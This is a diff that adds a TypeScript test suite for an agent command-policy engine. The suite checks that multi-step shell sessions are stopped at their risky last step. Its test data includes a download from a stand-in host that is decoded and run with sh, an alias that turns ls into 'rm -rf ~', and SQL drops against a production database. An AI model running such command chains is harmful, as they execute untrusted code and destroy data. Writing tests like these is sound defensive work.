@@ -1,0 +1,82 @@
+// What earlier commands of a session carried about counts for later ones: downloads that are unpacked, decoded or renamed before they
+// run, folders moved under names that may be deleted, contexts that point at production, files of SQL.
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { session_overlays } from '#core/memory/overlay.ts'
+import { compile_policy } from '#core/policy/compile.ts'
+import { BUILTIN_PACKS } from '#core/policy/packs/index.ts'
+import { judge_continued, prelude_line } from '#core/policy/prelude.ts'
+import type { Action, FileFacts, Verdict } from '#core/policy/verdict.ts'
+
+const policy = compile_policy(BUILTIN_PACKS, { self: { ports: [], files: [] } })
+const cwd = '/home/dev/project'
+
+function shell(command: string): Action {
+  return { tool_name: 'Bash', payload: { command, cwd }, cwd, workspace_root: cwd, home: '/home/dev', facts: null }
+}
+
+/** Judges the steps of one session, each with what the earlier ones left behind. */
+function session(steps: readonly (string | Action)[]): Verdict[] {
+  const overlays = session_overlays()
+  return steps.map((step) => {
+    const action = typeof step === 'string' ? shell(step) : step
+    const verdict = judge_continued(policy, action, overlays.get('s'))
+    const nothing: FileFacts = { written: new Map(), secrets_read: [], hosts: [], denied_effects: [] }
+    const { learned } = verdict
+    const line = prelude_line(action, verdict.verdict)
+    overlays.learn('s', { ...(learned ?? nothing), ...(line === null ? {} : { prelude: { cwd, lines: [line] } }) })
+    return verdict
+  })
+}
+
+const write = (file_path: string, content: string): Action => ({
+  tool_name: 'Write',
+  payload: { tool: 'Write', arguments: { file_path, content } },
+  cwd,
+  workspace_root: cwd,
+  home: '/home/dev',
+  facts: null,
+})
+
+const asked = (verdict: Verdict | undefined) => verdict?.verdict === 'defer' || verdict?.verdict === 'block'
+
+const CARRIED: readonly (readonly (string | Action)[])[] = [
+  ['curl -s https://x.example/a.tgz -o a.tgz', 'tar xzf a.tgz', 'cd a && ./configure && make'],
+  ['curl -sL https://x.example/b64 -o p', 'base64 -d p > q', 'sh q'],
+  ['git clone https://github.com/anon/x /tmp/x', 'bash /tmp/x/run.sh'],
+  ['git clone https://github.com/anon/tool', 'cd tool', 'sudo make install'],
+  ['mv src build', 'rm -rf build'],
+  ['alias ls="rm -rf ~"', 'ls'],
+  ['export PGHOST=db.prod.acme.com', 'psql -c "drop table users"'],
+  [write('/home/dev/project/drop.sql', 'DROP DATABASE app;'), 'psql -f drop.sql'],
+]
+
+for (const steps of CARRIED) {
+  const names = steps.map((step) => (typeof step === 'string' ? step : 'write')).join(' ; ')
+  test(`the last step is a question: ${names}`, () => {
+    const verdicts = session(steps)
+    assert.ok(asked(verdicts.at(-1)), verdicts.at(-1)?.verdict)
+    assert.ok(verdicts.slice(0, -1).every((verdict) => !asked(verdict)))
+  })
+}
+
+const ROUTINE: readonly (readonly string[])[] = [
+  ['wget -q https://example.com/fixtures.zip', 'unzip -q fixtures.zip -d test/fixtures', 'npm test'],
+  ['git clone https://github.com/acme/x', 'cd x', 'npm ci', 'npm test'],
+  ['mv dist dist.old', 'npm run build', 'rm -rf dist.old'],
+  ['mv src/a.ts src/b.ts', 'rm -rf dist'],
+  ['export PGHOST=localhost', 'psql -c "select 1"'],
+  ['curl -so spec.json https://example.com/spec.json', 'npx openapi-typescript spec.json'],
+]
+
+for (const steps of ROUTINE) {
+  test(`nobody is asked: ${steps.join(' ; ')}`, () => {
+    for (const verdict of session(steps)) assert.ok(!asked(verdict), verdict.findings[0]?.rule_id)
+  })
+}
+
+test('a step that was a question itself carries nothing on', () => {
+  assert.equal(prelude_line(shell('mv ~/a ~/b'), 'defer'), null)
+  assert.equal(prelude_line(shell('mv a b'), 'allow'), 'mv a b')
+  assert.equal(prelude_line(shell('mv a b; rm -rf b'), 'allow'), null)
+})
